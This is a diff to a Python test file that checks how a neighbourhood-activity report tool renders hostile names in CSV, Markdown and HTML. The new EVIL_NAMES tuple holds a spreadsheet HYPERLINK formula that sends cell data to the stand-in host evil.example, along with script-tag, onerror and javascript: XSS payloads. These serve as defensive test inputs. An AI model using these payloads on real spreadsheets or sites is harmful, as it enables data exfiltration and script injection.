@@ -63,7 +63,7 @@ def test_markdown_escapes_table_cells_and_lists_inactive() -> None:
     """A '|' in a name cannot break the Markdown table; inactive neighbourhoods are listed
     with the signs that would be taken down."""
     text = render(small_report(), "markdown", "en")
-    assert '\\| "oost"' in text
+    assert '\\| \\"oost\\"' in text
     assert "- Beta (Kern): last activity never; 4 attention sign(s) to be removed" in text
     lines = [line for line in text.splitlines() if line.startswith("|")]
     assert len({len(re.split(r"(?<!\\)\|", line)) for line in lines}) == 1
@@ -198,3 +198,62 @@ def test_digest_command_queues_in_the_outbox(env: Path, capsys: pytest.CaptureFi
     with sqlite3.connect(env / "db.sqlite3") as conn:
         rows = conn.execute("SELECT chat_id, action, status FROM outbox").fetchall()
     assert rows == [(-1001000000002, "say", "pending")]
+
+
+EVIL_NAMES = (
+    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
+    "+31 6 12345678",
+    "-2+3",
+    "@SUM(1+1)",
+    "\tTab",
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "[klik](javascript:alert(1))",
+)
+
+
+def hostile_report():
+    period = Period(date(2026, 1, 1), date(2026, 3, 31), AMS)
+    tally = Tally(period, period.end)
+    hoods = [Hood(f"h{i}", name, name, 1, 0) for i, name in enumerate(EVIL_NAMES)]
+    return build_report(
+        "<script>x()</script>", hoods, tally, inactive_days=60, regie_name="R", total_name="T"
+    )
+
+
+def test_csv_cells_cannot_start_a_formula() -> None:
+    """A name beginning with = + - @ or a tab reaches the spreadsheet as text: prefixed with
+    an apostrophe (OWASP's advice), otherwise unchanged."""
+    table = list(csv.DictReader(io.StringIO(render(hostile_report(), "csv"))))
+    names = [row["name"] for row in table[: len(EVIL_NAMES)]]
+    assert names[:5] == ["'" + name for name in EVIL_NAMES[:5]]
+    assert names[5:] == list(EVIL_NAMES[5:])
+    starts = {cell[:1] for row in table for cell in row.values()}
+    assert not starts & {"=", "+", "-", "@", "\t"}
+
+
+def test_markdown_of_hostile_names_renders_as_text() -> None:
+    """Rendered by a CommonMark renderer, the Markdown report holds no HTML element, no link
+    and no extra table cell made from a name: every name shows as written."""
+    from markdown_it import MarkdownIt
+
+    text = render(hostile_report(), "markdown", "nl")
+    html = MarkdownIt("commonmark").enable("table").render(text)
+    assert not re.search(r"<(script|img|a)\b", html)
+    assert "javascript:" not in re.sub(r">[^<]*<", "><", html)  # only inside text, if at all
+    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
+    assert "[klik](javascript:alert(1))" in html
+    cells = {len(re.findall(r"<t[dh]", row)) for row in re.findall(r"<tr>.*?</tr>", html, re.S)}
+    assert len(cells) == 1
+
+
+def test_html_report_forbids_scripts_by_policy() -> None:
+    """The HTML report carries a Content-Security-Policy that allows no script, no fetch and
+    nothing from elsewhere (inline styles only), and names stay text."""
+    text = render(hostile_report(), "html", "nl")
+    policy = re.search(r'http-equiv="Content-Security-Policy" content="([^"]+)"', text)
+    assert policy is not None
+    rules = dict(part.strip().split(" ", 1) for part in policy.group(1).split(";"))
+    assert rules["default-src"] == "'none'" and rules["style-src"] == "'unsafe-inline'"
+    assert "script-src" not in rules
+    assert not re.search(r"<(script|img)\b", text)
